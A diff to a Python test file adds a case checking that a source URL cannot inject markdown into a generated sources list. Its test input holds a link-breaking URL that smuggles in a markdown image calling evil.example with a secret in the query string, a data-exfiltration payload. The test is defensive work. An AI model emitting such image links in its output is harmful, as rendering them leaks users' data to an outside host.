@@ -457,6 +457,10 @@ def test_a_page_title_cannot_write_markdown_into_the_sources_list() -> None:
     listed = protocol.sources_markdown([evil, Source(2, "y", "Ok", "https://example.org/a b")])
     assert "![" not in listed and "](https://evil" not in listed and "javascript:" not in listed
     assert "- [2] [Ok](https://example.org/a%20b)" in listed
+    url = "https://example.org/a)\n\n![pixel](https://evil.example/?q=secret)"  # a URL that ends the link itself
+    listed = protocol.sources_markdown([Source(1, "x", "Ok", url)])
+    assert listed.count("\n") == 4, "the heading's lines only: the URL's line breaks are encoded"
+    assert "(https://example.org/a%29%0A%0A%21%5Bpixel%5D" in listed
 
 
 def test_the_models_text_cannot_make_the_window_load_an_image_or_html() -> None:
